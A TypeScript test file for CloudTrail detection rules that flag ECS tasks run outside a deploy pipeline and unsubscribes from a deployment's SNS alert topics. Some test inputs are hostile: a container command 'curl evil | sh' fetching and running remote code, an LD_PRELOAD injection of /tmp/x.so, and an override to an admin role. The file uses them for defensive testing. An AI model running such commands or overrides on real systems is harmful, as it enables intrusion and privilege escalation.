import { parseFilterPattern } from '../../../analysis/filter-pattern';
import { buildCatalogue, detectionById } from '../../../detections/catalogue';
import { taskRun } from '../../../detections/examples/ecs-example';
import {
  EXAMPLE_DEPLOY_ROLE,
  exampleEvent,
  exampleRole,
  exampleUser,
} from '../../../detections/examples/example-event';
import type { CloudTrailRecord } from '../../../records/cloudtrail/cloudtrail-record';

const CATALOGUE = buildCatalogue({ deployRoles: [EXAMPLE_DEPLOY_ROLE], homeRegions: ['eu-west-1'] });

function fires(id: string, record: CloudTrailRecord, catalogue = CATALOGUE): boolean {
  const { detector } = detectionById(id, catalogue);
  if (detector.kind !== 'filter') throw new Error(`${id} is no filter`);
  return parseFilterPattern(detector.pattern).matchesRecord(record);
}

describe('ecs-task-run-outside-pipeline, where deploy roles are named', () => {
  const by = (invokedBy: string) => ({
    userIdentity: { ...exampleRole('nightly-report', 'events'), invokedBy },
    sourceIPAddress: invokedBy,
    userAgent: invokedBy,
  });
  const isRaised = (record: CloudTrailRecord) => fires('ecs-task-run-outside-pipeline', record);
  const changed = (override: object) => ({
    overrides: { containerOverrides: [{ name: 'web', ...override }] },
  });

  test.each(['events.amazonaws.com', 'scheduler.amazonaws.com'])(
    'a plain schedule of %s is silent',
    (service) => {
      expect(isRaised(taskRun({}, by(service)))).toBe(false);
      expect(isRaised(taskRun({ overrides: { containerOverrides: [] } }, by(service)))).toBe(false);
    },
  );

  test.each([
    ['another command', changed({ command: ['sh', '-c', 'curl evil | sh'] })],
    ['another environment', changed({ environment: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] })],
    ['another role', { overrides: { taskRoleArn: 'arn:aws:iam::111122223333:role/admin' } }],
  ])('a schedule that gives it %s is raised', (_what, parameters) => {
    expect(isRaised(taskRun(parameters, by('events.amazonaws.com')))).toBe(true);
  });

  test('a person, a role and another service are raised as before', () => {
    expect(isRaised(taskRun({}, { userIdentity: exampleUser }))).toBe(true);
    expect(isRaised(taskRun({}, { userIdentity: exampleRole('developer') }))).toBe(true);
    expect(isRaised(taskRun({}, by('cloudformation.amazonaws.com')))).toBe(true);
  });
});

describe('notification-path-cut', () => {
  const unsubscribe = (topic: string) =>
    exampleEvent('sns', 'Unsubscribe', {
      subscriptionArn: `arn:aws:sns:eu-west-1:111122223333:${topic}:6b0e71bd-7e97-4d97-80ce-4a0994e55286`,
    });

  test('leaving a topic of the deployment is raised, leaving another is not', () => {
    expect(fires('notification-path-cut', unsubscribe('harborwatch-notifications'))).toBe(true);
    expect(fires('notification-path-cut', unsubscribe('shop-oncall'))).toBe(false);
    expect(fires('notification-path-cut', unsubscribe('harborwatchers'))).toBe(false);
  });

  test('the topics are those of the name that the deployment has', () => {
    const named = buildCatalogue({ deployRoles: [], homeRegions: [], deploymentName: 'watch-blue' });
    expect(fires('notification-path-cut', unsubscribe('watch-blue-alarms'), named)).toBe(true);
    expect(fires('notification-path-cut', unsubscribe('harborwatch-alarms'), named)).toBe(false);
  });
});

/** What the whole catalogue says of a record, by the alarms' patterns: ids with their severity. */
function raised(record: CloudTrailRecord): readonly string[] {
  return CATALOGUE.flatMap(({ id, severity, detector }) =>
    detector.kind === 'filter' && parseFilterPattern(detector.pattern).matchesRecord(record)
      ? [`${severity} ${id}`]
      : [],
  );
}

describe('every detection, on what happens every night', () => {
  const scheduled = ['events.amazonaws.com', 'scheduler.amazonaws.com'].flatMap((service) =>
    ['dwh-export', 'AmazonEventBridgeSchedulerRole-9c1', 'ecsEventsRole'].map(
      (role) => [role, service] as const,
    ),
  );

  test.each(scheduled)('a task that role %s runs for %s raises low at most', (role, service) => {
    const record = taskRun(
      { cluster: 'batch', taskDefinition: 'dwh-export:41', startedBy: `events-rule/${role}`, count: 1 },
      {
        userIdentity: { ...exampleRole(role, '3f1c7d'), invokedBy: service },
        sourceIPAddress: service,
        userAgent: service,
      },
    );
    expect(raised(record).filter((line) => !line.startsWith('low '))).toEqual([]);
  });

  test('leaving a topic of somebody else, by whoever leaves it, raises nothing about our path', () => {
    for (const topic of ['orders-events', 'my-harborwatch-copy', 'Harborwatch', 'billing']) {
      const record = exampleEvent(
        'sns',
        'Unsubscribe',
        {
          subscriptionArn: `arn:aws:sns:eu-west-1:111122223333:${topic}:0a6f2c6e-0000-4d97-80ce-4a0994e55286`,
        },
        { userIdentity: exampleUser },
      );
      expect(raised(record).join()).not.toContain('notification-path-cut');
    }
  });
});
